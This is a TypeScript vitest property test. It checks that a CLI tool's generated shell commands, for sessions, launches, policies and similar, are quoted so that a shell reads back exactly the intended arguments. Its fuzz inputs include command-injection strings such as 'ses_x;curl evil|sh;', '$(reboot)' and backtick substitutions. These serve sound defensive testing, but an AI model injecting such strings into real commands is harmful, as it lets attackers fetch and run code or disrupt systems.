// @vitest-environment node
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { afterEach, expect, it } from 'vitest';
import { cliTwin } from '../../../console/format/cli.ts';
import { noteCommandName } from '../../../console/lib/command-name.ts';
import { readPresetFile } from '../../../protocol/engines.ts';
import type { LaunchRequest } from '../../../protocol/http.ts';
import { aPreset } from '../../support/preset-builders.ts';

afterEach(() => noteCommandName('pilothouse'));

const launch = (over: object) =>
  cliTwin.launch({ runnerId: 'run_a', engineId: 'claude', ...over } as LaunchRequest);
const free = (text: string) => (text.startsWith('-') ? ['--', text] : [text]);

/** Commands with whatever a link, a machine or a person put into them, and the words that each means. */
const SHOWN: readonly ((id: string, text: string) => [string, ...string[]])[] = [
  (id, text) => [cliTwin.say(id, text), 'sessions', 'say', id, ...free(text)],
  (id, text) => [cliTwin.answer(id, text, 'deny'), 'sessions', 'deny', id, text],
  (id, text) => [
    cliTwin.override(id, 'act_a', text),
    'breaches',
    'override',
    id,
    'act_a',
    '--reason',
    text,
  ],
  (id, text) => [cliTwin.changeObjective(id, text), 'pilot', 'objective', id, ...free(text)],
  (id) => [cliTwin.watch(id), 'watch', id],
  (id, text) => [cliTwin.compare([id, text]), 'compare', id, text],
  (id) => [cliTwin.attach(id), 'attach', ...free(id)],
  (id) => [
    cliTwin.digest('08:00', id),
    'notifications',
    'digest',
    '--at',
    '08:00',
    '--time-zone',
    id,
  ],
  (id) => [
    cliTwin.exportLedger('usage export', { from: undefined, to: undefined, by: id }),
    'usage',
    'export',
    '--by',
    id,
  ],
  (id) => [cliTwin.publishOperator(id), 'operators', 'publish', 'FILE', '--operator', id],
  (id, text) => [cliTwin.decisionsOf(id, text), 'decisions', 'show', '--branch', text, ...free(id)],
  (id, text) => [
    cliTwin.makeMcpKey({ name: text, instanceId: id, scopes: [] }),
    'mcp',
    'keys',
    'make',
    '--instance',
    id,
    '--name',
    text,
  ],
  (id, text) => [cliTwin.sayToOperator(id, text), 'operators', 'say', id, ...free(text)],
  (id, text) => [cliTwin.answerCall(id, text, 'once'), 'operators', 'answer', id, text, 'once'],
  (id, text) => [
    cliTwin.confirmStep(id, 3, text, true),
    'pilot',
    'confirm',
    id,
    '--step',
    '3',
    `--instruction=${text}`,
    '--keep',
  ],
  (id) => [cliTwin.budgets(id), 'budget', 'show', '--directory', id],
  (id, text) => [cliTwin.rewind(id, text), 'sessions', 'rewind', id, '--to', text],
  (id) => [cliTwin.removeGithub(id), 'github', 'remove', ...free(id)],
  (id, text) => [cliTwin.removeCheckout(id, text), 'checkouts', 'remove', text, '--runner', id],
  (id, text) => [
    launch({ directory: text, conversation: id, from: id, objective: text }),
    'launch',
    '--runner',
    'run_a',
    '--engine',
    'claude',
    '--directory',
    text,
    '--conversation',
    id,
    '--from',
    id,
    ...free(text),
  ],
  (id, text) => [
    launch({ from: id, fork: { turnId: text }, budgetMicroUsd: 1, model: text, objective: id }),
    'sessions',
    'fork',
    id,
    '--turn',
    text,
    '--engine',
    'claude',
    '--model',
    text,
    '--budget',
    '0.000001',
    ...free(id),
  ],
];

const word = fc
  .oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom(
      'ses_x;curl evil|sh;',
      '$(reboot)',
      '-h',
      '--wait',
      '\n# reboot\n',
      '`pilothouse up`',
      'run: pilothouse up',
    ),
  )
  .map((text) => text.replaceAll('\0', '').trim())
  .filter((text) => text !== '');

it('a shell reads a shown command as exactly the words that it means, whatever is in them', () => {
  noteCommandName('npx pilothouse');
  fc.assert(
    fc.property(word, word, (id, text) => {
      const all = SHOWN.map((show) => show(id, text));
      const program = `npx() { printf '%s\\0' "$@" ''; }\n${all.map(([line]) => line).join('\n')}`;
      const read = execFileSync('sh', ['-c', program], { stdio: ['ignore', 'pipe', 'pipe'] });
      const meant = all.flatMap(([, ...words]) => ['pilothouse', ...words, '']);
      expect(read).toEqual(Buffer.from(meant.map((each) => `${each}\0`).join('')));
    }),
    { numRuns: 20 },
  );
});

it('a command reads from its pipe exactly what a form says', () => {
  noteCommandName('npx pilothouse');
  fc.assert(
    fc.property(word, (text) => {
      const layer = { part: { mode: 'none' as const, protectedBranches: [text] }, widens: text };
      const preset = aPreset({ label: text, command: ['agent', text] });
      const shown = [cliTwin.savePolicy('/srv', layer), cliTwin.saveEngine(preset)].join('\n');
      const program = `npx() { cat; printf '\\0%s' "$@"; printf '\\0'; }\n${shown}`;
      const read = execFileSync('sh', ['-c', program], { encoding: 'utf8' }).split('\0');
      expect(JSON.parse(read[0] ?? '')).toEqual(layer);
      expect(read.slice(1, 8)).toEqual([
        'pilothouse',
        'policy',
        'set',
        '--directory',
        '/srv',
        '--file',
        '-',
      ]);
      expect(readPresetFile(read[8] ?? '')).toEqual({ preset });
      expect(read.slice(9)).toEqual(['pilothouse', 'engines', 'import', '-', '']);
    }),
    { numRuns: 10 },
  );
});
